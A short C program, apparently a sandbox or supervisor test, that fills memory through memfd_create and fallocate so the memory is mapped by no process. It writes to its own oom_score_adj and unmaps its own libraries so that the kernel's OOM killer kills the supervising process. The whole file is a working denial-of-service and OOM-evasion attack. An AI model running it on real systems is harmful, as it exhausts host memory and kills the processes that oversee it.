/* Takes memory that no process maps, lowers its own OOM score and unmaps nearly all of its own
 * memory: when memory runs out, the kernel kills the largest process, which is the supervisor. */
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>

enum { PIECE = 1 << 23 };

/* A system call without the C library, which main() unmaps. */
static inline __attribute__((always_inline)) long
call(long number, long a, long b, long c, long d)
{
#ifdef __x86_64__
	long result;
	register long r10 __asm__("r10") = d;
	__asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return result;
#else
	register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b,
			 x2 __asm__("x2") = c, x3 __asm__("x3") = d;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	return x0;
#endif
}

static struct {
	unsigned long start, end;
} libraries[64];

int
main(void)
{
	char line[512];
	int count = 0;

	FILE *score = fopen("/proc/self/oom_score_adj", "w");
	if (score == NULL || fputs("0", score) < 0 || fclose(score) != 0)
		perror("score");
	FILE *maps = fopen("/proc/self/maps", "r");
	while (count < 64 && fgets(line, sizeof line, maps) != NULL)
		if (strstr(line, ".so") != NULL &&
		    sscanf(line, "%lx-%lx", &libraries[count].start, &libraries[count].end) == 2)
			count++;
	for (int i = 0; i < count; i++)
		call(SYS_munmap, (long)libraries[i].start,
		     (long)(libraries[i].end - libraries[i].start), 0, 0);
	for (;;) {
		long file = call(SYS_memfd_create, (long)"x", 0, 0, 0);
		call(SYS_fallocate, file, 0, 0, PIECE);
	}
}
